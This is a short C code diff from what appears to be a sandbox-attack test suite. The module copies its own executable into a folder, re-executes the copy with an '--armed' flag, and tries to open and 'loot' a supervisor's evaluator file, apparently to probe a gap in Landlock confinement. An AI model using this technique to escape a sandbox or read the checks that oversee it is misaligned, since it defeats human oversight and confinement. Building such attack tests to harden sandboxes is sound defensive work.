@@ -9,10 +9,12 @@
 #include "attacks/landlock-gap/copy.h"
 #include "attacks/supervisor-evasion/evaluator.h"
 
+#include <sys/auxv.h>
+
 static bool copy_self(const char *to)
 {
 	int out = open(to, O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0700);
-	bool copied = copy_program("/proc/self/exe", out) && !fchmod(out, 0111);
+	bool copied = copy_program((const char *)getauxval(AT_EXECFN), out) && !fchmod(out, 0111);
 
 	close(out);
 	return copied;
@@ -24,8 +26,8 @@ static enum claim run(const struct brief *b)
 	char *argv[] = { copy, "--armed", "again", NULL };
 
 	if (b->again) /* this is the copy */
-		return loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE :
-									      denied("open");
+		return loot_evaluator(open(EVALUATOR, O_RDONLY | O_CLOEXEC)) ? CLAIM_DONE
+									     : denied("open");
 	if (!own_folder(b, folder))
 		return failed("mkdir");
 	snprintf(copy, sizeof(copy), "%s/copy", folder);
